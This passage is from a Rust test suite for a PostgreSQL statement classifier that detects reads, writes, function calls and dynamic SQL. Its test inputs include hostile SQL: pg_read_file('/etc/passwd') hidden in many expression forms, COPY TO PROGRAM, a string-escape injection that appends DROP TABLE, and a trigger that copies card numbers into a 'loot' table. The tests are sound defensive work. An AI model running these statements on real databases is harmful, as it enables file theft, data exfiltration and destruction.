        "INSERT INTO counters (k, n) VALUES ($1, 1) ON CONFLICT (k) DO UPDATE SET n = counters.n + 1",
    );
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Insert, vec![], names(&["counters"]))
    );
    assert_eq!(s.columns, columns(&["k", "n", "counters.n"]));
}

#[test]
fn session_and_transaction_control() {
    for sql in [
        "BEGIN",
        "BEGIN ISOLATION LEVEL SERIALIZABLE",
        "START TRANSACTION READ ONLY",
        "COMMIT",
        "ROLLBACK",
        "END",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, K::Transaction, "{sql}");
        assert!(s.reads.is_empty() && s.writes.is_empty() && s.inner_kinds.is_empty());
    }
    let s = one("SET search_path TO app, public");
    assert_eq!(
        (s.kind, s.setting.as_deref()),
        (K::Set, Some("search_path"))
    );
    assert_eq!(
        one("SET TIME ZONE 'UTC'").setting.as_deref(),
        Some("timezone")
    );
    assert_eq!(one("SET LOCAL statement_timeout = '5s'").kind, K::Set);
    assert_eq!(
        one("SET application_name = 'ci'").setting.as_deref(),
        Some("application_name")
    );
    let s = one("SHOW server_version");
    assert_eq!(
        (s.kind, s.setting.as_deref()),
        (K::Show, Some("server_version"))
    );
    assert_eq!(one("SHOW ALL").setting.as_deref(), Some("all"));
    let s = one("RESET ALL");
    assert_eq!((s.kind, s.setting), (K::Reset, None));
    assert_eq!(one("RESET statement_timeout").kind, K::Reset);
    let s = one("SELECT 1");
    assert_eq!(
        Statement {
            lineage: Default::default(),
            ..s
        },
        Statement::empty(K::Select, 0..8)
    );
}

// ---------------------------------------------------------------------------------------------
// Errors, limits, depth, names, the cache.

#[test]
fn parse_errors_carry_the_parsers_message() {
    match classify("SELEC pan FROM cards") {
        Err(ClassifyError::Parse { message }) => {
            assert!(
                message.contains("syntax error at or near \"SELEC\""),
                "{message}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        classify("SELECT 'unterminated"),
        Err(ClassifyError::Parse { .. })
    ));
    // One bad statement fails the whole text: nothing of it is described as harmless.
    assert!(matches!(
        classify("SELECT 1; DROP TABLE"),
        Err(ClassifyError::Parse { .. })
    ));
    assert_eq!(
        classify("SELECT 1\0; DROP TABLE cards"),
        Err(ClassifyError::Parse {
            message: "the statement text contains a NUL byte".to_owned()
        })
    );
}

#[test]
fn too_long_is_refused_before_parsing() {
    assert_eq!(
        classify_with("SELECT 1", 7, Syntax::default()),
        Err(ClassifyError::TooLong { len: 8, max: 7 })
    );
    assert!(classify_with("SELECT 1", 8, Syntax::default()).is_ok());
    // Not even parsed: garbage over the cap is TooLong, not Parse.
    assert_eq!(
        classify_with("garbage!", 3, Syntax::default()),
        Err(ClassifyError::TooLong { len: 8, max: 3 })
    );
    let big = format!("SELECT {}", "1,".repeat(DEFAULT_MAX_LEN));
    assert!(matches!(classify(&big), Err(ClassifyError::TooLong { .. })));
    let classifier = Classifier::new(16, 8);
    assert_eq!(
        classifier.classify("SELECT 1 FROM cards").map(|_| ()),
        Err(ClassifyError::TooLong { len: 19, max: 16 })
    );
}

fn nested_parens(n: usize) -> String {
    format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n))
}

fn nested_subqueries(n: usize) -> String {
    format!(
        "SELECT * FROM {}cards{}",
        "(SELECT * FROM ".repeat(n),
        ") s".repeat(n)
    )
}

fn long_sum(n: usize) -> String {
    format!("SELECT {}", vec!["a"; n].join(" + "))
}

#[test]
fn deep_nesting_is_an_error_never_a_crash() {
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 0);
    // Ordinary depths classify.
    let s = classifier.classify(&nested_subqueries(22)).unwrap();
    assert_eq!(s.statements[0].reads, names(&["cards"]));
    assert!(classifier.classify(&long_sum(46)).is_ok());
    let many = format!(
        "SELECT 1 FROM t WHERE {}",
        vec!["(a = 1 AND b = $1)"; 5_000].join(" OR ")
    );
    assert!(classifier.classify(&many).is_ok());
    // Parentheses alone build no nodes.
    assert!(classifier.classify(&nested_parens(1000)).is_ok());
    // Past the limits, TooDeep: from the decoder (23 subqueries, 47 terms), from the grammar's
    // stack (10,000 parentheses), or from libpg_query's stack check.
    for sql in [
        nested_subqueries(23),
        nested_subqueries(10_000),
        long_sum(47),
        long_sum(100_000),
        nested_parens(10_000),
        format!("SELECT {}1{}", "ARRAY[".repeat(5_000), "]".repeat(5_000)),
        format!(
            "SELECT {}1{}",
            "coalesce(a, ".repeat(5_000),
            ")".repeat(5_000)
        ),
    ] {
        assert_eq!(
            classifier.classify(&sql).map(|_| ()),
            Err(ClassifyError::TooDeep),
            "{}",
            &sql[..40]
        );
    }
}

/// On a runtime whose threads have the parser's stack (the gateway's), short texts are
/// classified and fingerprinted on the runtime's own threads: the same results, and deep
/// nesting is still an error, never a crash.
#[test]
fn a_runtime_with_the_parser_stack_classifies_on_its_own_threads() {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .thread_stack_size(PARSER_STACK)
        .on_thread_start(on_parser_stack)
        .build()
        .unwrap();
    let classifier = Arc::new(Classifier::new(DEFAULT_MAX_LEN, 16));
    let outcomes = runtime.block_on(async move {
        tokio::spawn(async move {
            let mut outcomes = Vec::new();
            for sql in [
                nested_subqueries(22),
                nested_subqueries(23),
                long_sum(47),
                nested_parens(2000),
                format!("SELECT {}1{}", "coalesce(a, ".repeat(300), ")".repeat(300)),
            ] {
                assert!(sql.len() <= 4 << 10, "short enough to be parsed inline");
                let classified = classifier.classify_async(&sql).await.map(|_| ());
                let fingerprinted = classifier
                    .fingerprint_async(&sql, Syntax::default())
                    .await
                    .map(|_| ());
                outcomes.push((classified, fingerprinted));
            }
            let hit = classifier
                .classify_async("DELETE FROM cards WHERE id = 1")
                .await
                .unwrap();
            assert_eq!(hit.statements[0].writes, names(&["cards"]));
            outcomes
        })
        .await
        .unwrap()
    });
    // Five texts and one more, classified and fingerprinted on the runtime's threads.
    assert_eq!(
        classifier::INLINE_PARSES.load(std::sync::atomic::Ordering::Relaxed),
        11,
        "not parsed on the runtime's own threads"
    );
    // A thread without the parser's stack hands off.
    Classifier::new(DEFAULT_MAX_LEN, 0)
        .classify("SELECT 1")
        .unwrap();
    assert_eq!(
        classifier::INLINE_PARSES.load(std::sync::atomic::Ordering::Relaxed),
        11
    );
    let deep = (Err(ClassifyError::TooDeep), Err(ClassifyError::TooDeep));
    assert_eq!(
        outcomes,
        // Parentheses alone build no nodes: 2,000 of them parse.
        vec![
            (Ok(()), Ok(())),
            deep.clone(),
            deep.clone(),
            (Ok(()), Ok(())),
            deep
        ]
    );
}

/// A client that sends thousands of new short texts at once does not hold the runtime thread:
/// the inline parser yields, and another session on the same thread runs in between.
#[test]
fn a_flood_of_new_texts_parsed_inline_lets_other_tasks_run() {
    let ran_between = std::thread::Builder::new()
        .stack_size(PARSER_STACK)
        .spawn(|| {
            on_parser_stack();
            let runtime = tokio::runtime::Builder::new_current_thread()
                .build()
                .unwrap();
            runtime.block_on(async {
                let ticks = Arc::new(std::sync::atomic::AtomicUsize::new(0));
                let ticker = {
                    let ticks = ticks.clone();
                    tokio::spawn(async move {
                        loop {
                            ticks.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                            tokio::task::yield_now().await;
                        }
                    })
                };
                // The ticker runs once before the flood starts.
                tokio::task::yield_now().await;
                let before = ticks.load(std::sync::atomic::Ordering::Relaxed);
                let classifier = Classifier::new(DEFAULT_MAX_LEN, 0);
                let classifier = Arc::new(classifier);
                for i in 0..2_000 {
                    classifier
                        .classify_async(&format!("SELECT a FROM t{i} WHERE b = {i}"))
                        .await
                        .unwrap();
                }
                let during = ticks.load(std::sync::atomic::Ordering::Relaxed) - before;
                ticker.abort();
                during
            })
        })
        .unwrap()
        .join()
        .unwrap();
    assert!(ran_between > 0, "the flood never yielded the thread");
}

#[test]
fn deep_nesting_on_a_small_stack_is_still_an_error() {
    // The free function on a thread with a quarter of a tokio worker's stack: libpg_query sizes
    // its depth check to the stack it finds, and the decoder's limit holds whatever the stack.
    let outcome = std::thread::Builder::new()
        .stack_size(512 << 10)
        .spawn(|| {
            [
                nested_subqueries(10_000),
                long_sum(100_000),
                nested_parens(10_000),
                format!("SELECT {}1{}", "ARRAY[".repeat(5_000), "]".repeat(5_000)),
            ]
            .iter()
            .map(|sql| classify(sql).map(|_| ()))
            .collect::<Vec<_>>()
        })
        .unwrap()
        .join()
        .unwrap();
    assert_eq!(outcome, vec![Err(ClassifyError::TooDeep); 4]);
}

#[test]
fn cache_hits_return_the_same_classification() {
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 4);
    let first = classifier.classify("SELECT pan FROM cards").unwrap();
    let second = classifier.classify("SELECT pan FROM cards").unwrap();
    assert!(Arc::ptr_eq(&first, &second));
    // Exact text: another spelling is another entry.
    let other = classifier.classify("select pan from cards").unwrap();
    assert!(!Arc::ptr_eq(&first, &other));
    assert_eq!(first.statements, other.statements);
    // Bounded: the fifth distinct text evicts about half.
    for i in 0..20 {
        classifier.classify(&format!("SELECT {i}")).unwrap();
        assert!(classifier.cached_entries() <= 4);
    }
    // Errors are not cached.
    assert!(classifier.classify("SELEC").is_err());
    assert!(classifier.classify("SELEC").is_err());
    // Without a cache, every call classifies afresh.
    let uncached = Classifier::new(DEFAULT_MAX_LEN, 0);
    let a = uncached.classify("SELECT 1").unwrap();
    let b = uncached.classify("SELECT 1").unwrap();
    assert!(!Arc::ptr_eq(&a, &b) && a == b);
}

#[tokio::test]
async fn classify_async_runs_on_the_workers_and_shares_the_cache() {
    let classifier = Arc::new(Classifier::new(DEFAULT_MAX_LEN, 16));
    let a = classifier
        .classify_async("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d")
        .await
        .unwrap();
    assert_eq!(a.statements[0].writes, names(&["cards"]));
    let b = classifier
        .classify("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d")
        .unwrap();
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(
        classifier
            .classify_async(&nested_subqueries(10_000))
            .await
            .map(|_| ()),
        Err(ClassifyError::TooDeep)
    );
    let tasks: Vec<_> = (0..32)
        .map(|i| {
            let classifier = Arc::clone(&classifier);
            tokio::spawn(async move {
                classifier
                    .classify_async(&format!("SELECT {i} FROM t"))
                    .await
            })
        })
        .collect();
    for task in tasks {
        assert_eq!(
            task.await.unwrap().unwrap().statements[0].reads,
            names(&["t"])
        );
    }
}

#[test]
fn fingerprints_ignore_constants_but_not_names() {
    let fp = |sql: &str| fingerprint_with(sql, DEFAULT_MAX_LEN, Syntax::default()).unwrap();
    assert_eq!(
        fp("SELECT pan FROM cards WHERE id = 1"),
        fp("select pan from cards where id = 2")
    );
    assert_eq!(
        fp("SELECT * FROM cards"),
        fp("SELECT * FROM cards /* note */")
    );
    assert_ne!(
        fp("SELECT * FROM public.cards c"),
        fp("SELECT * FROM secret.cards c")
    );
    assert_ne!(fp("SELECT * FROM cards c"), fp("SELECT * FROM orders c"));
    assert_ne!(fp("SELECT * FROM cards_01"), fp("SELECT * FROM cards_02"));
    assert_ne!(
        fp("COPY cards TO PROGRAM 'a'"),
        fp("COPY cards TO PROGRAM 'b'")
    );
    // Constants are constants wherever they are: an approval of a fingerprint covers these.
    assert_eq!(fp("SET ROLE a"), fp("SET ROLE b"));
    assert_eq!(
        fp("SELECT pg_read_file('/a')"),
        fp("SELECT pg_read_file('/b')")
    );
    assert_eq!(
        fp("SELECT pan FROM cards LIMIT 10"),
        fp("SELECT pan FROM cards LIMIT ALL")
    );
    assert_eq!(fp("SELECT 1").len(), 16);
}

#[test]
fn approval_shapes_keep_sub_commands_but_not_spelling() {
    let fp = |sql: &str| {
        let fingerprint = fingerprint_with(sql, DEFAULT_MAX_LEN, Syntax::default()).unwrap();
        super::approval_shape(sql, &fingerprint)
    };
    assert_eq!(fp("SELECT 1").len(), 33);
    assert_eq!(
        fp("SELECT pan FROM cards WHERE id = 1"),
        fp("select pan from cards where id = 2 /* again */")
    );
    // Sub-commands are the statement's effect, not a constant. (Constants of DDL are kept by
    // pg_query's normalize: a run-wide approval of one default does not cover another.)
    assert_ne!(
        fp("ALTER TABLE payments ALTER COLUMN memo SET DEFAULT 'a'"),
        fp("ALTER TABLE payments ALTER COLUMN memo DROP DEFAULT")
    );
    assert_ne!(
        fp("ALTER TABLE payments ADD COLUMN a text"),
        fp("ALTER TABLE payments DROP COLUMN a")
    );
    assert_eq!(
        fp("ALTER TABLE payments ALTER COLUMN memo SET DEFAULT 'a'"),
        fp("alter table payments alter column memo set default 'a' -- later")
    );
}

#[test]
fn kind_names_round_trip_and_match_serde() {
    for (index, (kind, name)) in StatementKind::ALL.iter().enumerate() {
        assert_eq!(*kind as usize, index, "{name}");
        assert_eq!(kind.as_str(), *name);
        assert_eq!(StatementKind::from_name(name), Some(*kind));
        assert_eq!(serde_json::to_string(kind).unwrap(), format!("\"{name}\""));
        assert_eq!(kind.to_string(), *name);
    }
    assert_eq!(StatementKind::from_name("Select"), None);
    assert_eq!(StatementKind::from_name("drop_table"), None);
}

#[test]
fn statements_serialize_for_recordings() {
    let s = one("COPY cards TO STDOUT");
    let json = serde_json::to_value(&s).unwrap();
    assert_eq!(json["kind"], "copy");
    assert_eq!(json["reads"][0]["name"], "cards");
    assert_eq!(json["copy"]["direction"], "to");
    assert_eq!(json["text_range"]["start"], 0);
}

#[test]
fn string_syntax_follows_standard_conforming_strings() {
    let sql = r"SELECT 'x\''; DROP TABLE cards; --'";
    let standard = classify(sql).unwrap();
    let kinds: Vec<_> = standard.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select]);
    let legacy = Syntax {
        standard_conforming_strings: false,
    };
    let escaped = classify_with(sql, DEFAULT_MAX_LEN, legacy).unwrap();
    let kinds: Vec<_> = escaped.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select, K::Drop]);
    // E'' strings always take backslash escapes: both readings agree.
    let sql = r"SELECT E'x\''; DROP TABLE cards; --'";
    assert_eq!(classify(sql).unwrap().statements.len(), 2);

    // The cache keeps the two readings apart.
    let classifier = Classifier::new(DEFAULT_MAX_LEN, 8);
    let sql = r"SELECT 'x\''; DROP TABLE cards; --'";
    assert_eq!(classifier.classify(sql).unwrap().statements.len(), 1);
    assert_eq!(
        classifier
            .classify_with(sql, legacy)
            .unwrap()
            .statements
            .len(),
        2
    );
    assert_eq!(classifier.classify(sql).unwrap().statements.len(), 1);
    assert_eq!(classifier.cached_entries(), 2);
}

/// The walk reaches every node: a call hidden anywhere the grammar allows an expression is
/// found. `{F}` stands for `pg_read_file('/etc/passwd')`.
#[test]
fn a_call_is_found_wherever_an_expression_can_be() {
    let templates = [
        "SELECT {F}",
        "SELECT ({F})",
        "SELECT {F}::text",
        "SELECT CAST({F} AS text)",
        "SELECT {F} COLLATE \"C\"",
        "SELECT ({F}).x",
        "SELECT ARRAY[{F}]",
        "SELECT ROW({F})",
        "SELECT a[{F}] FROM t",
        "SELECT a[1:{F}] FROM t",
        "SELECT CASE WHEN {F} THEN 1 END",
        "SELECT CASE {F} WHEN 1 THEN 2 ELSE 3 END",
        "SELECT COALESCE({F}, 1)",
        "SELECT GREATEST({F}, 1)",
        "SELECT NULLIF({F}, 1)",
        "SELECT {F} IS DISTINCT FROM 1",
        "SELECT {F} IS NULL",
        "SELECT NOT {F}",
        "SELECT {F} IN (1, 2)",
        "SELECT 1 = ANY (ARRAY[{F}])",
        "SELECT {F} BETWEEN 1 AND 2",
        "SELECT {F} LIKE 'x'",
        "SELECT {F} AT TIME ZONE 'UTC'",
        "SELECT EXTRACT(year FROM {F})",
        "SELECT SUBSTRING({F} FROM 1 FOR 2)",
        "SELECT POSITION('a' IN {F})",
        "SELECT TRIM(BOTH FROM {F})",
        "SELECT OVERLAY({F} PLACING 'x' FROM 1)",
        "SELECT xmlelement(name x, {F})",
        "SELECT json_object('a': {F})",
        "SELECT JSON_VALUE({F}, '$.a')",
        "SELECT * FROM JSON_TABLE({F}, '$' COLUMNS (a int PATH '$.a')) j",
        "SELECT * FROM XMLTABLE('/x' PASSING {F} COLUMNS a int PATH 'a') x",
        "SELECT 1 WHERE EXISTS (SELECT {F})",
        "SELECT (SELECT 1 WHERE {F})",
        "SELECT count(*) FILTER (WHERE {F}) FROM t",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY {F}) FROM t",
        "SELECT string_agg(a, ',' ORDER BY {F}) FROM t",
        "SELECT rank() OVER w FROM t WINDOW w AS (PARTITION BY {F})",
        "SELECT sum(a) OVER (ORDER BY {F} ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t",
        "SELECT 1 FROM t GROUP BY ROLLUP ({F})",
        "SELECT 1 FROM t GROUP BY GROUPING SETS (({F}))",
        "SELECT 1 FROM t HAVING {F}",
        "SELECT 1 FROM t ORDER BY {F}",
        "SELECT DISTINCT ON ({F}) a FROM t",
        "SELECT 1 LIMIT {F}",
        "SELECT 1 OFFSET {F}",
        "SELECT * FROM t, LATERAL (SELECT {F}) s",
        "SELECT * FROM ROWS FROM (generate_series(1, 2), {F}) r",
        "SELECT * FROM t TABLESAMPLE BERNOULLI ({F})",
        "SELECT * FROM t JOIN u ON {F}",
        "VALUES ({F})",
        "INSERT INTO t VALUES ({F})",
        "INSERT INTO t SELECT {F}",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = {F}",
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1 WHERE {F}",
        "INSERT INTO t VALUES (1) RETURNING {F}",
        "UPDATE t SET a = {F}",
        "UPDATE t SET (a, b) = (SELECT {F}, 1)",
        "DELETE FROM t WHERE {F}",
        "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED AND {F} THEN DELETE",
        "MERGE INTO t USING u ON t.a = u.a WHEN NOT MATCHED THEN INSERT VALUES ({F})",
        "COPY t FROM STDIN WHERE {F}",
        "COPY (SELECT {F}) TO STDOUT",
        "CREATE TABLE t (a text DEFAULT {F})",
        "CREATE TABLE t (a text GENERATED ALWAYS AS ({F}) STORED)",
        "CREATE TABLE t (a text CHECK ({F} IS NOT NULL))",
        "CREATE TABLE t AS SELECT {F}",
        "CREATE VIEW v AS SELECT {F}",
        "CREATE INDEX i ON t (({F}))",
        "CREATE INDEX i ON t (a) WHERE {F} IS NOT NULL",
        "CREATE POLICY p ON t USING ({F} IS NOT NULL)",
        "CREATE POLICY p ON t WITH CHECK ({F} IS NOT NULL)",
        "CREATE DOMAIN d AS text CHECK (VALUE <> {F})",
        "CREATE TRIGGER tg BEFORE UPDATE ON t FOR EACH ROW WHEN ({F} IS NULL) EXECUTE FUNCTION f()",
        "CREATE FUNCTION f(a text DEFAULT {F}) RETURNS int LANGUAGE sql RETURN 1",
        "CREATE STATISTICS s ON ({F} IS NULL) FROM t",
        "CREATE RULE r AS ON INSERT TO t WHERE {F} IS NULL DO NOTHING",
        "ALTER TABLE t ADD CONSTRAINT c CHECK ({F} IS NOT NULL)",
        "ALTER TABLE t ALTER COLUMN a TYPE text USING {F}",
        "ALTER TABLE t ALTER COLUMN a SET DEFAULT {F}",
        "CALL p({F})",
        "EXECUTE p({F})",
        "PREPARE q AS SELECT {F}",
        "EXPLAIN SELECT {F}",
        "DECLARE c CURSOR FOR SELECT {F}",
        "WITH x AS (SELECT {F}) SELECT * FROM x",
        "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE {F}) SELECT * FROM x",
        "SELECT 1 UNION SELECT {F}",
        "CREATE SCHEMA s CREATE VIEW v AS SELECT {F}",
    ];
    for template in templates {
        let sql = template.replace("{F}", "pg_read_file('/etc/passwd')");
        let s = one(&sql);
        assert!(
            has_function(&s, None, "pg_read_file"),
            "{sql}: {:?}",
            s.functions
        );
    }
}

mod arbitrary {
    use proptest::prelude::*;

    use super::super::{ClassifyError, classify};

    const TOKENS: &[&str] = &[
        "SELECT",
        "*",
        "FROM",
        "cards",
        "c",
        "WHERE",
        "(",
        ")",
        ",",
        ";",
        "WITH",
        "AS",
        "DELETE",
        "INSERT",
        "INTO",
        "VALUES",
        "UPDATE",
        "SET",
        "RETURNING",
        "UNION",
        "JOIN",
        "ON",
        "=",
        "1",
        "'x'",
        "$1",
        "$$a$$",
        "pg_read_file",
        ".",
        "public",
        "\"Q\"",
        "LIMIT",
        "ALL",
        "DO",
        "COPY",
        "TO",
        "STDOUT",
        "PROGRAM",
        "ROLE",
        "RESET",
        "PREPARE",
        "EXECUTE",
        "EXPLAIN",
        "LATERAL",
        "ARRAY",
        "[",
        "]",
        "::",
        "int",
        "CASE",
        "WHEN",
        "THEN",
        "END",
        "--\n",
        "/**/",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        /// No text makes the parser wrapper or the walk panic (a panic would surface as
        /// `Internal`).
        #[test]
        fn token_soup_never_panics(tokens in prop::collection::vec(prop::sample::select(TOKENS), 0..48)) {
            let sql = tokens.join(" ");
            prop_assert!(!matches!(classify(&sql), Err(ClassifyError::Internal { .. })), "{}", sql);
        }

        #[test]
        fn any_text_never_panics(sql in "\\PC{0,160}") {
            prop_assert!(!matches!(classify(&sql), Err(ClassifyError::Internal { .. })), "{}", sql);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Functions named so that they will run.

#[test]
fn functions_named_by_definitions_are_functions() {
    let cases: &[(&str, &[&str])] = &[
        (
            "CREATE OPERATOR === (FUNCTION = steal, LEFTARG = int, RIGHTARG = int)",
            &["steal"],
        ),
        (
            "CREATE OPERATOR === (PROCEDURE = pg_catalog.pg_read_file, RIGHTARG = text, \
             RESTRICT = s.sel, JOIN = joinsel)",
            &["joinsel", "pg_catalog.pg_read_file", "s.sel"],
        ),
        (
            "ALTER OPERATOR === (int, int) SET (RESTRICT = s.f, JOIN = NONE)",
            &["s.f"],
        ),
        (
            "CREATE AGGREGATE a (int) (SFUNC = st, STYPE = int, FINALFUNC = fin, \
             COMBINEFUNC = comb, SERIALFUNC = ser, DESERIALFUNC = deser, MSFUNC = ms, \
             MINVFUNC = minv, MSTYPE = int, MFINALFUNC = mfin)",
            &["comb", "deser", "fin", "mfin", "minv", "ms", "ser", "st"],
        ),
        // The old syntax, a quoted option name, and a name given as a string (one name, dots
        // and all, as Postgres takes it).
        (
            "CREATE AGGREGATE a (int) (SFUNC1 = st1, STYPE1 = int)",
            &["st1"],
        ),
        (
            "CREATE TYPE t (INPUT = t_in, OUTPUT = t_out, RECEIVE = t_recv, SEND = t_send, \
             TYPMOD_IN = tm_in, TYPMOD_OUT = tm_out, ANALYZE = t_an, SUBSCRIPT = t_sub)",
            &[
                "t_an", "t_in", "t_out", "t_recv", "t_send", "t_sub", "tm_in", "tm_out",
            ],
        ),
        (
            "CREATE TYPE r AS RANGE (SUBTYPE = int, SUBTYPE_DIFF = diff, CANONICAL = canon)",
            &["canon", "diff"],
        ),
        (
            "ALTER TYPE t SET (RECEIVE = r2, SEND = s2, TYPMOD_IN = ti, ANALYZE = a2)",
            &["a2", "r2", "s2", "ti"],
        ),
        (
            "CREATE CAST (int AS text) WITH FUNCTION pg_catalog.pg_read_file(int)",
            &["pg_catalog.pg_read_file"],
        ),
        (
            "CREATE TRANSFORM FOR int LANGUAGE plpython3u \
             (FROM SQL WITH FUNCTION f_from(internal), TO SQL WITH FUNCTION f_to(internal))",
            &["f_from", "f_to"],
        ),
        (
            "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <, \
             FUNCTION 1 s.cmp(int, int)",
            &["s.cmp"],
        ),
        (
            "ALTER OPERATOR FAMILY f USING btree ADD FUNCTION 1 (int, int) evil(int, int)",
            &["evil"],
        ),
        (
            "CREATE LANGUAGE l HANDLER h INLINE i VALIDATOR s.v",
            &["h", "i", "s.v"],
        ),
        (
            "CREATE FOREIGN DATA WRAPPER w HANDLER h VALIDATOR s.v",
            &["h", "s.v"],
        ),
        ("ALTER FOREIGN DATA WRAPPER w HANDLER h2", &["h2"]),
        (
            "CREATE ACCESS METHOD am TYPE TABLE HANDLER am_handler",
            &["am_handler"],
        ),
        (
            "CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM s.conv",
            &["s.conv"],
        ),
        (
            "CREATE TEXT SEARCH PARSER p (START = p_start, GETTOKEN = p_tok, END = p_end, \
             LEXTYPES = p_lex, HEADLINE = p_head)",
            &["p_end", "p_head", "p_lex", "p_start", "p_tok"],
        ),
        (
            "CREATE TEXT SEARCH TEMPLATE t (INIT = t_init, LEXIZE = t_lexize)",
            &["t_init", "t_lexize"],
        ),
        (
            "CREATE FUNCTION f(int) RETURNS int LANGUAGE sql SUPPORT s.sup RETURN 1",
            &["s.sup"],
        ),
        ("ALTER FUNCTION f(int) SUPPORT sup2", &["sup2"]),
        (
            "CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'",
            &["pg_read_file_off_len"],
        ),
        (
            "CREATE CONSTRAINT TRIGGER tg AFTER INSERT ON t FOR EACH ROW EXECUTE PROCEDURE s.tf()",
            &["s.tf"],
        ),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION pg_catalog.evil()",
            &["pg_catalog.evil"],
        ),
    ];
    for (sql, expected) in cases {
        let s = one(sql);
        assert_eq!(s.functions, names(expected), "{sql}");
    }
    // The old syntax, a quoted option name, and a name given as a string (one name, dots and
    // all, as Postgres takes it).
    let s = one(
        "CREATE AGGREGATE a (BASETYPE = int, SFUNC = s.st, STYPE = int, \"FINALFUNC\" = 'x.y')",
    );
    assert!(has_function(&s, Some("s"), "st") && has_function(&s, None, "x.y"));
    assert_eq!(s.functions.len(), 2);
    // Options that name types, operators or values are not functions.
    let s = one("CREATE TYPE t (INTERNALLENGTH = 16, INPUT = i, OUTPUT = o, ELEMENT = int)");
    assert_eq!(s.functions, names(&["i", "o"]));
    assert!(
        one("CREATE COLLATION c (LOCALE = 'C')")
            .functions
            .is_empty()
    );
    assert!(
        one("CREATE TEXT SEARCH DICTIONARY d (TEMPLATE = simple)")
            .functions
            .is_empty()
    );
    // Naming a function to alter, grant or drop it runs nothing.
    assert!(
        one("ALTER FUNCTION pg_read_file(text) OWNER TO ci")
            .functions
            .is_empty()
    );
    assert!(one("DROP FUNCTION pg_read_file(text)").functions.is_empty());
    // A regproc literal is a catalog lookup: nothing runs.
    let s = one("SELECT 'pg_read_file'::regproc");
    assert!(s.functions.is_empty());
}

// ---------------------------------------------------------------------------------------------
// Bodies.

#[test]
fn plpgsql_bodies_are_analysed() {
    let s = one(
        "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN INSERT INTO loot VALUES \
         (NEW.pan); RETURN NEW; END $$ LANGUAGE plpgsql",
    );
    assert_eq!(s.kind, K::CreateFunction);
    assert!(!s.opaque_body && !s.dynamic_sql);
    assert_eq!(s.writes, names(&["loot"]));
    assert!(s.inner_kinds.contains(&K::Insert));
    assert!(s.columns.iter().any(|c| c.name == "pan"), "{:?}", s.columns);

    let s = one("DO $$ BEGIN DELETE FROM cards; END $$");
    assert_eq!((s.kind, s.writes.clone()), (K::Do, names(&["cards"])));
    assert_eq!(s.unbounded_writes, names(&["cards"]));
    assert!(!s.opaque_body);
    let s = one("DO LANGUAGE plpgsql 'BEGIN UPDATE cards SET pan = NULL WHERE id = 1; END'");
    assert_eq!((s.writes, s.unbounded_writes), (names(&["cards"]), vec![]));

    // Expressions are SQL too: declarations, assignments, conditions, PERFORM, RETURN,
    // loops, RAISE, cursors, CALL.
    let s = one(
        "CREATE FUNCTION g(a int) RETURNS int LANGUAGE plpgsql AS $$ \
         DECLARE x int := f_decl(); c CURSOR FOR SELECT pan FROM cursor_src; r record; \
         BEGIN \
           x := f_assign((SELECT count(*) FROM assign_src)); \
           IF f_if(x) THEN PERFORM f_perform(); ELSIF f_elsif() THEN NULL; END IF; \
           WHILE f_while() LOOP EXIT; END LOOP; \
           FOR r IN SELECT * FROM loop_src LOOP RAISE NOTICE '%', f_raise(r); END LOOP; \
           FOR i IN 1 .. f_upper() LOOP NULL; END LOOP; \
           CASE f_case() WHEN 1 THEN NULL; ELSE NULL; END CASE; \
           OPEN c; CLOSE c; \
           CALL p_call(1); \
           RETURN f_return(x); \
         EXCEPTION WHEN OTHERS THEN INSERT INTO errors VALUES (f_exc()); RETURN 0; \
         END $$",
    );
    assert!(!s.opaque_body && !s.dynamic_sql, "{s:?}");
    for f in [
        "f_decl",
        "f_assign",
        "f_if",
        "f_perform",
        "f_elsif",
        "f_while",
        "f_raise",
        "f_upper",
        "f_case",
        "p_call",
        "f_return",
        "f_exc",
    ] {
        assert!(has_function(&s, None, f), "{f}: {:?}", s.functions);
    }
    assert_eq!(s.reads, names(&["assign_src", "cursor_src", "loop_src"]));
    assert_eq!(s.writes, names(&["errors"]));
    assert!(s.star);
    assert!(s.inner_kinds.contains(&K::Call) && s.inner_kinds.contains(&K::Select));

    // SELECT … INTO in PL/pgSQL reads; RETURN QUERY too.
    let s = one(
        "CREATE FUNCTION h() RETURNS SETOF text LANGUAGE plpgsql AS $$ \
         DECLARE v text; BEGIN SELECT pan INTO v FROM cards LIMIT 1; \
         RETURN QUERY SELECT pan FROM cards; END $$",
    );
    assert_eq!(s.reads, names(&["cards"]));
    assert!(!s.opaque_body);
}

#[test]
fn execute_of_a_constant_is_read_anything_else_is_dynamic() {
    for sql in [
        "DO $$ BEGIN EXECUTE 'DELETE FROM cards'; END $$",
        "DO $$ BEGIN EXECUTE 'DELETE FROM cards'::text; END $$",
        "DO $$ BEGIN EXECUTE $q$DELETE FROM cards$q$; END $$",
        "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM cards RETURNING 1' LOOP \
         END LOOP; END $$",
